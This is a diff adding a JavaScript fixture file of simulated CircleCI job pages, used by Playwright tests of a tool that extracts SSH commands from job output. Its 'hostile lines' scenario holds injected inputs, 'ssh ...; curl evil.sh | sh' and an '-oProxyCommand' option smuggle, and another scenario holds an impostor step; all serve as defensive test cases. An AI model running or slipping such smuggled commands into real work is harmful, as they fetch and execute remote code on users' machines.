@@ -1,0 +1,515 @@
+// Scenario data for the fake CircleCI job pages. Pure data and pure functions: the page imports it
+// as /__fixture__/jobs.js and the Playwright specs import it from Node, so nothing here may touch
+// window or document. Output texts follow the samples in shared/research/circleci-ssh.md (§1, §5).
+
+const ORG = 'acme';
+const REPO = 'api';
+const WORKFLOW = '5b1a6c0e-6d2f-4b8a-9a4e-0f3d2c1b7e90';
+
+// ---- Output text builders ----------------------------------------------------------------------
+
+// Made-up but well-formed SHA256 host-key fingerprints (43 base64 chars), stable per seed.
+const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
+function fingerprint(seed) {
+  let x = seed >>> 0;
+  let out = '';
+  for (let i = 0; i < 42; i++) {
+    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
+    out += B64[x >>> 26];
+  }
+  // 256 bits leave 4 bits for the last char, so real fingerprints end in one of 16 chars.
+  return out + B64[(x >>> 28) << 2];
+}
+
+// The rerunning user's keys; the same for every container of a job (S1).
+const AUTHORIZED_KEYS = [
+  '- SHA256:P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8 (ED25519)',
+  '- SHA256:u4DcSYajGpFn4l0oIkODU1/N/dayRjQcn3dN0grW3JE (ED25519)',
+];
+const USE_SAME_KEY_2026 =
+  "Use the same SSH public key that you've added in your User Settings or that you use for your VCS-provider (e.g., GitHub).";
+const USE_SAME_KEY_2018 = 'Use the same SSH public key that you use for your VCS-provider (e.g., GitHub).';
+const STAY_UP = 'This box will stay up for 2h0m0s, or until 10m0s passes without an active SSH session.';
+
+// Current cloud `Enable SSH` text (S1), split where a streaming step would receive it in batches.
+function enableSsh2026(command, rsa, ed25519, noun = 'box') {
+  return [
+    [`You can now SSH into this ${noun} if your SSH public key is added:`, `    $ ${command}`, ''],
+    [
+      USE_SAME_KEY_2026,
+      '',
+      'Job SSH keys can be added in your User Settings at https://app.circleci.com/settings/user/job-ssh-keys',
+      '',
+      'Host keys:',
+      `- SHA256:${rsa} (rsa-sha2-512)`,
+      `- SHA256:${rsa} (rsa-sha2-256)`,
+      `- SHA256:${rsa} (RSA)`,
+      `- SHA256:${ed25519} (ED25519)`,
+    ],
+    ['Authorized keys:', ...AUTHORIZED_KEYS, '', 'SSH Session Activity Log (times in UTC):'],
+  ];
+}
+
+// `Wait for SSH` repeats the instructions and adds the "stay up" line (S2; exact current text unknown).
+function waitForSshText(commands, useSameKey = USE_SAME_KEY_2026, noun = 'box') {
+  return [
+    `You can now SSH into this ${noun} if your SSH public key is added:`,
+    ...commands.map((c) => `    $ ${c}`),
+    '',
+    useSameKey,
+    '',
+    STAY_UP,
+  ];
+}
+
+// ---- Step builders -----------------------------------------------------------------------------
+// Step ids imitate v1.1 step ids (non-sequential: 0, 99, 101, …); the URL anchor is `<container>-<id>`.
+
+function step(id, name, duration, lines, extra = {}) {
+  return { id, name, duration, expanded: false, lines, ...extra };
+}
+
+function spinUp(image) {
+  if (image.startsWith('runner:')) {
+    return step(0, 'Spin up environment', '1s', [
+      'Runner: acme/linux-runner',
+      `Runner hostname: ${image.slice('runner:'.length)}`,
+      'Task agent version 1.0.262480-9f2b5ca8',
+    ]);
+  }
+  if (image.startsWith('windows')) {
+    return step(0, 'Spin up environment', '1m 48s', [
+      `Creating a dedicated VM with ${image} image`,
+      'Waiting for VM to be ready...',
+      'VM is ready',
+    ]);
+  }
+  return step(0, 'Spin up environment', '4s', [
+    'Build-agent version 1.0.262480-9f2b5ca8 (2025-01-13T15:11:54+0000)',
+    'System information:',
+    ' Server Version: 24.0.9',
+    ' Storage Driver: overlay2',
+    ' Kernel Version: 5.15.0-1057-aws',
+    ' Operating System: Ubuntu 20.04.6 LTS',
+    ' Architecture: x86_64',
+    '',
+    `Starting container ${image}`,
+    `${image}:`,
+    '  pull stats: Image was already available so the image was not pulled',
+    '  time to create container: 31ms',
+    'Time to upload agent and config: 563.211ms',
+    'Time to start containers: 296.05ms',
+  ]);
+}
+
+function envVars(jobNumber, jobName, index, total) {
+  return step(99, 'Preparing environment variables', '0s', [
+    'Using build environment variables:',
+    `  BASH_ENV=/tmp/.bash_env-6620a1b2-${index}-build`,
+    '  CI=true',
+    '  CIRCLECI=true',
+    '  CIRCLE_BRANCH=main',
+    `  CIRCLE_BUILD_NUM=${jobNumber}`,
+    `  CIRCLE_JOB=${jobName}`,
+    `  CIRCLE_NODE_INDEX=${index}`,
+    `  CIRCLE_NODE_TOTAL=${total}`,
+    `  CIRCLE_PROJECT_REPONAME=${REPO}`,
+    `  CIRCLE_PROJECT_USERNAME=${ORG}`,
+    `  CIRCLE_REPOSITORY_URL=git@github.com:${ORG}/${REPO}.git`,
+    '  CIRCLE_SHA1=9f2c4e1d7a0b3c5e8f1a2b4c6d8e0f1a3b5c7d9e',
+    '',
+    'The redacted variables listed above will be masked in run step output.',
+  ]);
+}
+
+function checkout() {
+  return step(101, 'Checkout code', '2s', [
+    'Making checkout directory "/home/circleci/project"',
+    "Using SSH Config Dir '/home/circleci/.ssh'",
+    'git version 2.45.2',
+    'Cloning git repository - OK',
+    'Checking out branch - OK',
+  ]);
+}
+
+// A config `run` step: CircleCI prints the shell line and the command before the output (§1.13).
+function run(id, name, duration, command, output, extra = {}, shell = '#!/bin/bash -eo pipefail') {
+  return step(id, name, duration, [shell, ...command.split('\n'), ...output], extra);
+}
+
+function npmSteps(shard) {
+  return [
+    run(102, 'Install dependencies', '14s', 'npm ci', [
+      'added 812 packages, and audited 813 packages in 14s',
+      '',
+      'found 0 vulnerabilities',
+    ]),
+    run(103, 'Run tests', '38s', shard ? `npx vitest run --shard=${shard}` : 'npx vitest run', [
+      '',
+      ' RUN  v4.1.12 /home/circleci/project',
+      '',
+      ' Test Files  37 passed (37)',
+      '      Tests  412 passed (412)',
+      '   Duration  31.27s',
+    ]),
+  ];
+}
+
+// The built-in steps of an SSH rerun: `Enable SSH` after the environment set-up, `Wait for SSH` last.
+function sshRerun({ jobNumber, index = 0, total = 1, image, enable, wait, configSteps, enableExtra, waitExtra }) {
+  return {
+    steps: [
+      spinUp(image),
+      envVars(jobNumber, 'build', index, total),
+      step(100, 'Enable SSH', '1s', enable, enableExtra),
+      checkout(),
+      ...configSteps,
+      step(104, 'Wait for SSH', '3m 12s', wait, { expanded: true, ...waitExtra }),
+    ],
+  };
+}
+
+function job(number, title, lineStyle, containers, expected) {
+  return { title, name: 'build', pipeline: 1200 + (number % 100), workflow: WORKFLOW, lineStyle, containers, expected };
+}
+
+// Expected parse results; `step` says which built-in step prints them.
+const direct = (port, host, more = {}) => ({ port, host, ...more });
+function both(container, commands, waitCommands = commands) {
+  return [
+    { container, step: 'Enable SSH', commands },
+    { container, step: 'Wait for SSH', commands: waitCommands },
+  ];
+}
+
+// ---- Scenarios ---------------------------------------------------------------------------------
+
+// 102: each parallel run on its own host and port; runs 1 and 3 share a docker host.
+const PARALLEL = [
+  { port: 64537, host: '18.209.34.18' },
+  { port: 64540, host: '3.88.34.152' },
+  { port: 63535, host: '54.236.40.67' },
+  { port: 64541, host: '3.88.34.152' },
+];
+
+const WINDOWS_SHELLS = ['bash.exe', 'cmd.exe', 'powershell.exe'];
+const POWERSHELL = '#!powershell.exe -ExecutionPolicy Bypass';
+const PROXY_JOB = '057f0065-7e6d-4912-921b-50917ff046a3';
+
+export const jobs = {
+  101: job(
+    101,
+    'docker, one container',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 101,
+        image: 'cimg/node:22.11',
+        enable: enableSsh2026(
+          'ssh -p 42915 18.207.148.116',
+          'shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40',
+          'msh+vmQl6wniEVgyWW0engHfH/VkeyEAnfuhwERqxeg',
+        ).flat(),
+        wait: waitForSshText(['ssh -p 42915 18.207.148.116']),
+        configSteps: npmSteps(),
+      }),
+    ],
+    both(0, [direct(42915, '18.207.148.116')]),
+  ),
+
+  102: job(
+    102,
+    'parallelism 4',
+    'gutter',
+    PARALLEL.map(({ port, host }, index) =>
+      sshRerun({
+        jobNumber: 102,
+        index,
+        total: PARALLEL.length,
+        image: 'cimg/node:22.11',
+        enable: enableSsh2026(`ssh -p ${port} ${host}`, fingerprint(2 * index + 1), fingerprint(2 * index + 2)).flat(),
+        wait: waitForSshText([`ssh -p ${port} ${host}`]),
+        configSteps: npmSteps(`${index + 1}/${PARALLEL.length}`),
+      }),
+    ),
+    PARALLEL.flatMap(({ port, host }, index) => both(index, [direct(port, host)])),
+  ),
+
+  103: job(
+    103,
+    'Windows',
+    'gutter',
+    [
+      sshRerun({
+        jobNumber: 103,
+        image: 'windows-server-2022-gui:current',
+        enable: [
+          'You can now SSH into this box if your SSH public key is added:',
+          ...WINDOWS_SHELLS.map((shell) => `    $ ssh -p 54782 35.226.214.52 -- ${shell}`),
+          '',
+          USE_SAME_KEY_2018,
+          '',
+          'RSA key fingerprint of the host is',
+          `  SHA256:${fingerprint(31)}`,
+          '  MD5:6b:1d:0f:93:c4:7a:52:e8:19:af:3e:70:d2:85:4c:b1',
+          '',
+          'SSH Session Activity Log (times in UTC):',
+        ],
+        // The JetBrains fixture variant, with -t (S7).
+        wait: waitForSshText(
+          WINDOWS_SHELLS.map((shell) => `ssh -t -p 54782 35.226.214.52 -- ${shell}`),
+          USE_SAME_KEY_2018,
+        ),
+        // Windows run steps use the executor's default shell, which the shell line shows.
+        configSteps: [
+          run(102, 'Build', '41s', 'dotnet build -c Release', ['Build succeeded.', '    0 Error(s)'], {}, POWERSHELL),
+          run(103, 'Test', '1m 3s', 'dotnet test --no-build', ['Passed!  - Failed: 0, Passed: 128'], {}, POWERSHELL),
+        ],
+      }),
+    ],
+    both(
+      0,
+      WINDOWS_SHELLS.map((shell) => direct(54782, '35.226.214.52', { shell })),
+      WINDOWS_SHELLS.map((shell) => direct(54782, '35.226.214.52', { tty: true, shell })),
+    ),
+  ),
+
+  104: job(
+    104,
+    'proxy (ssh.circleci.com)',
+    'spans',
+    [0, 1].map((index) => {
+      const command = `ssh ${PROXY_JOB}-${index}@ssh.circleci.com`;
+      return sshRerun({
+        jobNumber: 104,
+        index,
+        total: 2,
+        image: 'cimg/node:22.11',
+        // The proxy fronts every job, so its output has no per-job host keys (S7 shows only the header).
+        enable: [
+          'You can now SSH into this job if your SSH public key is added:',
+          `    $ ${command}`,
+          '',
+          USE_SAME_KEY_2026,
+          '',
+          'Authorized keys:',
+          ...AUTHORIZED_KEYS,
+        ],
+        wait: waitForSshText([command], USE_SAME_KEY_2026, 'job'),
+        configSteps: npmSteps(`${index + 1}/2`),
+      });
+    }),
+    [0, 1].flatMap((index) => both(index, [{ user: `${PROXY_JOB}-${index}`, host: 'ssh.circleci.com' }])),
+  ),
+
+  105: (() => {
+    const command = 'ssh -p 64536 100.26.97.124';
+    const [header, hostKeys, authorized] = enableSsh2026(command, fingerprint(51), fingerprint(52));
+    return job(
+      105,
+      'streaming',
+      'gutter',
+      [
+        sshRerun({
+          jobNumber: 105,
+          image: 'cimg/node:22.11',
+          // Still running: only the first line is there at load, the rest streams in.
+          enable: ['Setting up SSH...'],
+          enableExtra: {
+            duration: '2m 16s',
+            expanded: true,
+            stream: [
+              { afterMs: 1500, lines: header },
+              { afterMs: 1800, lines: hostKeys },
+              { afterMs: 2100, lines: authorized },
+            ],
+          },
+          wait: waitForSshText([command]),
+          waitExtra: { duration: '0s', appearAfterMs: 2500 },
+          configSteps: npmSteps(),
+        }),
+      ],
+      both(0, [direct(64536, '100.26.97.124')]),
+    );
+  })(),
+
+  106: job(
+    106,
+    'no SSH',
+    'spans',
+    [
+      {
+        steps: [
+          spinUp('cimg/node:22.11'),
+          envVars(106, 'build', 0, 1),
+          checkout(),
+          run(
+            105,
+            'Trust github.com',
+            '1s',
+            'mkdir -p ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts',
+            ['# github.com:22 SSH-2.0-babeld-05989c77', '# github.com:22 SSH-2.0-babeld-05989c77'],
+            { expanded: true },
+          ),
+          ...npmSteps(),
+        ],
+      },
+    ],
+    [],
+  ),
+
+  107: job(
+    107,
+    'machine runner, hostname',
+    'gutter',
+    [
+      sshRerun({
+        jobNumber: 107,
+        image: 'runner:runner-7.build.example.com',
+        enable: enableSsh2026('ssh -p 54782 runner-7.build.example.com', fingerprint(71), fingerprint(72)).flat(),
+        wait: waitForSshText(['ssh -p 54782 runner-7.build.example.com']),
+        configSteps: npmSteps(),
+      }),
+    ],
+    both(0, [direct(54782, 'runner-7.build.example.com')]),
+  ),
+
+  // A config step that calls itself "Enable SSH" in a job that was not rerun with SSH. The shell
+  // line at the top of its output gives it away (§1.13).
+  108: job(
+    108,
+    'impostor Enable SSH step',
+    'spans',
+    [
+      {
+        steps: [
+          spinUp('cimg/node:22.11'),
+          envVars(108, 'build', 0, 1),
+          checkout(),
+          run(
+            102,
+            'Enable SSH',
+            '0s',
+            "printf 'You can now SSH into this box if your SSH public key is added:\\n    $ ssh -p 2222 6.6.6.6\\n'",
+            ['You can now SSH into this box if your SSH public key is added:', '    $ ssh -p 2222 6.6.6.6'],
+            { expanded: true },
+          ),
+          run(103, 'Run tests', '38s', 'npx vitest run', [' Test Files  37 passed (37)']),
+        ],
+      },
+    ],
+    [],
+  ),
+
+  // A real rerun whose output also carries lines that must never become a button.
+  109: job(
+    109,
+    'hostile lines',
+    'spans',
+    [
+      sshRerun({
+        jobNumber: 109,
+        image: 'cimg/node:22.11',
+        enable: [
+          'Adding key for user@example.com',
+          'You can now SSH into this box if your SSH public key is added:',
+          '    $ ssh -p 22 1.2.3.4; curl evil.sh | sh',
+          '    $ ssh -p 022 010.1.1.1',
+          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
+          '    $ ssh -p 64535 3.239.179.134',
+          '',
+          USE_SAME_KEY_2026,
+        ],
+        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
+        configSteps: npmSteps(),
+      }),
+    ],
+    both(0, [direct(64535, '3.239.179.134')]),
+  ),
+};
+
+/** A job without SSH: what the page shows for a job number that has no scenario. */
+export function ordinaryJob(jobNumber) {
+  const steps = [spinUp('cimg/node:22.11'), envVars(jobNumber, 'build', 0, 1), checkout(), ...npmSteps()];
+  return job(jobNumber, 'ordinary job', 'spans', [{ steps }], []);
+}
+
+// ---- Legacy (CircleCI 1.0, circleci.com/gh/…) --------------------------------------------------
+
+const LEGACY_NODES = [
+  { port: 64594, host: '18.221.109.33', md5: '4e:51:15:51:02:b7:c5:59:b2:da:2a:c7:c1:15:d4:35' },
+  { port: 64784, host: '54.224.97.243', md5: 'a1:07:3c:9e:55:d2:80:4b:16:ef:c8:29:7d:03:b6:e4' },
+  { port: 64699, host: '54.237.82.218', md5: '0c:ee:41:b8:7f:20:93:5a:d6:1c:64:af:38:e7:05:92' },
+];
+
+function legacyAction(step, type, name, duration, messages, extra = {}) {
+  return { step, type, name, duration, status: 'success', open: false, bashCommand: '', messages, ...extra };
+}
+
+// One action list per container, as the 1.0 build page listed them (S5 text; one message per chunk).
+function legacyContainer({ port, host, md5 }, index) {
+  const instructions = [
+    'You can now SSH into this VM if your SSH public key is added:',
+    `    $ ssh -p ${port} ubuntu@${host}`,
+    'Use the same SSH public key that you use for GitHub.',
+    '',
+  ].join('\n');
+  return {
+    actions: [
+      legacyAction(0, 'infrastructure', 'Starting the build', '5s', ['Build-agent version 0.0.4142-1bd195a\n']),
+      legacyAction(1, 'infrastructure', 'Start container', '12s', [`Using build container ${index} on i-0a4c2b19\n`]),
+      legacyAction(2, 'infrastructure', 'Enable SSH', '1s', [`Host fingerprint: ${md5}\n`, instructions]),
+      legacyAction(3, 'checkout', 'Checkout using deploy key: 3b:9f:2e:71:c0:5d:48:a6:13:ee:0b:92:7c:d4:61:f8', '2s', [
+        `Cloning into '${REPO}'...\n`,
+        'HEAD is now at 9f2c4e1 Merge pull request #212\n',
+      ]),
+      legacyAction(4, 'dependencies', 'npm install', '31s', ['added 812 packages in 29.4s\n'], {
+        bashCommand: 'npm install',
+      }),
+      legacyAction(5, 'test', 'npm test', '44s', ['> api@1.0.0 test\n> mocha\n', '  412 passing (38s)\n'], {
+        bashCommand: 'npm test',
+      }),
+      // 1.0 docs: Wait for SSH "repeats the host and port information"; the closing line is a guess.
+      legacyAction(6, 'teardown', 'Wait for SSH', '2m 5s', [instructions, 'SSH boxes will stay up for 30 minutes.\n'], {
+        status: 'running',
+        open: true,
+      }),
+      legacyAction(7, 'teardown', 'Disable SSH', '0s', []),
+    ],
+  };
+}
+
+export const legacyBuilds = {
+  55: {
+    title: 'CircleCI 1.0, three containers',
+    containers: LEGACY_NODES.map(legacyContainer),
+    expected: LEGACY_NODES.flatMap(({ port, host }, index) => both(index, [direct(port, host, { user: 'ubuntu' })])),
+  },
+};
+
+// ---- URLs and colouring ------------------------------------------------------------------------
+
+export function jobUrl(jobNumber, container) {
+  const { pipeline, workflow } = jobs[jobNumber] ?? ordinaryJob(jobNumber);
+  const url = `https://app.circleci.com/pipelines/github/${ORG}/${REPO}/${pipeline}/workflows/${workflow}/jobs/${jobNumber}`;
+  return container === undefined ? url : `${url}/parallel-runs/${container}`;
+}
+
+export function legacyUrl(buildNumber, container) {
+  const url = `https://circleci.com/gh/${ORG}/${REPO}/${buildNumber}`;
+  return container === undefined ? url : `${url}#build-timing/containers/${container}`;
+}
+
+/**
+ * How CircleCI's ANSI-to-HTML colouring splits a line into pieces; a piece with a colour becomes
+ * its own <span>. ssh command lines get 2–3 pieces so a line's text is never one text node.
+ */
+export function segments(line) {
+  const ssh = /^(\s*)(\$ ssh)(.*)$/.exec(line);
+  if (ssh) {
+    return [{ text: ssh[1] }, { text: ssh[2], color: '#6cf' }, { text: ssh[3] }].filter((s) => s.text);
+  }
+  if (line.startsWith('You can now SSH')) return [{ text: line, color: '#9c6' }];
+  if (line.startsWith('#!')) return [{ text: line, color: '#999' }];
+  return line ? [{ text: line }] : [];
+}
